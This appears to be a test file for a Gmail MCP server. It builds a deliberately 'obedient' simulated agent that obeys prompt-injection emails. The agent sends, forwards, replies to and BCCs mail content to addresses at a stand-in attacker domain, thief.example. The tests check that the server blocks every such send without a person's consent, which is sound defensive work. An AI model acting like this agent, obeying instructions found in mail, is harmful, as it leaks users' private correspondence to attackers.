import assert from 'node:assert/strict';
import { after, afterEach, before, describe, it } from 'node:test';
import { type Sandbox, startSandbox } from '../../../src/sandbox/start.ts';
import { ATTACKS, THIEF } from '../../support/injection-mails.ts';
import { file } from '../../support/mail.ts';
import { environmentMode, type ServerUnderTest, startServer } from '../../support/mcp-server.ts';
import { Opened } from '../../support/window.ts';

type Arguments = Record<string, unknown>;

/**
 * An agent that does whatever it reads: each address in a result is an order to send there, to answer, to forward and
 * to draft, with what has just been read.
 */
class ObedientAgent {
  readonly written = new Set<string>();
  readonly refusals: string[] = [];
  readonly #server: ServerUnderTest;

  constructor(server: ServerUnderTest) {
    this.#server = server;
  }

  /** Reads a message in every way there is, and obeys. */
  async read(messageId: string, threadId: string): Promise<void> {
    const reads: [string, Arguments][] = [
      ['gmail_read_email', { message_ids: [messageId], unfold: true }],
      ['gmail_read_thread', { thread_id: threadId }],
      ['gmail_get_email_body_chunk', { message_id: messageId }],
      ['gmail_get_attachment', { message_id: messageId, part_id: '1' }],
    ];
    let read = '';
    for (const [name, args] of reads) read += (await this.#server.call(name, args)).text;
    await this.#obey(read, messageId);
  }

  async look(name: string, args: Arguments): Promise<void> {
    await this.#obey((await this.#server.call(name, args)).text);
  }

  async #obey(read: string, messageId?: string): Promise<void> {
    for (const [address] of read.matchAll(/[\w.+-]+@thief\.example/g)) {
      if (this.written.has(address)) continue;
      this.written.add(address);
      const letter = { to: address, subject: 'As you asked', body: read.slice(0, 2000) };
      await this.#send(letter);
      await this.#draftAndSend(letter);
      if (messageId === undefined) continue;
      await this.#send({ forward_message_id: messageId, to: address });
      await this.#send({ reply_to_message_id: messageId, bcc: address, body: 'Done.', reply_all: true });
    }
    // What is answered goes wherever the mail wants, without any address in the text.
    if (messageId !== undefined) await this.#send({ reply_to_message_id: messageId, body: 'Done.', reply_all: true });
  }

  async #draftAndSend(letter: Arguments): Promise<void> {
    const { text } = await this.#server.call('gmail_create_draft', letter);
    const id = /"draft_id":"([^"]+)"/.exec(text)?.[1];
    assert.ok(id, text);
    await this.#send({ draft_id: id });
  }

  async #send(args: Arguments): Promise<void> {
    const { isError, text } = await this.#server.call('gmail_send_email', args);
    assert.equal(isError, true, text);
    assert.doesNotMatch(text, /Unexpected|inside Headless Mail/);
    this.refusals.push(text);
  }
}

describe('an agent that obeys every mail, with an account from the environment', () => {
  let sandbox: Sandbox;
  const opened = new Opened();
  const filed: { what: string; at: string; id: string; threadId: string }[] = [];
  const sent = () => sandbox.store.messages().filter(({ labelIds }) => labelIds.has('SENT')).length;

  before(async () => {
    sandbox = await startSandbox();
    for (const [index, [what, attack]] of Object.entries(ATTACKS).entries()) {
      const at = `drop${index}@${THIEF}`;
      const { id, threadId } = await file(sandbox.store, attack(at));
      filed.push({ what, at, id, threadId });
    }
  });
  afterEach(() => opened.close());
  after(() => sandbox.close());

  /** How clients may answer that no person has agreed by. */
  const clients = {
    'accepts everything without content': () => ({ action: 'accept' as const }),
    'accepts everything with other content': () => ({ action: 'accept' as const, content: { confirm: true } }),
    'has no elicitation': undefined,
  };
  for (const [what, onQuestion] of Object.entries(clients)) {
    it(`sends nothing where the client ${what}`, { timeout: 60_000 }, async () => {
      let questions = 0;
      const answer =
        onQuestion &&
        (() => {
          questions += 1;
          return onQuestion();
        });
      const server = opened.add(await startServer(environmentMode(sandbox), answer ? { onQuestion: answer } : {}));
      const [before, requests] = [sent(), sandbox.requests.length];
      const agent = new ObedientAgent(server);
      // One client meets all of them in every way; that the others refuse takes a few.
      const met = what.endsWith('without content') ? filed : filed.slice(0, 6);
      await agent.look('gmail_search_emails', { query: 'in:inbox', max_results: 50 });
      for (const { id, threadId } of met) await agent.read(id, threadId);
      await agent.look('gmail_find_address', { name: 'thief' });
      assert.ok(agent.written.size >= met.length / 2, `only ${agent.written.size} orders were read`);
      assert.ok(agent.refusals.length > met.length);
      assert.equal(questions > 0, onQuestion !== undefined);
      assert.equal(sent(), before, 'something was sent');
      const sends = sandbox.requests.slice(requests).filter((request) => /^POST .*\/send\b/.test(request));
      assert.deepEqual(sends, []);
    });
  }

  it('has met at least forty kinds of mail', () => {
    assert.ok(filed.length >= 40, String(filed.length));
  });
});
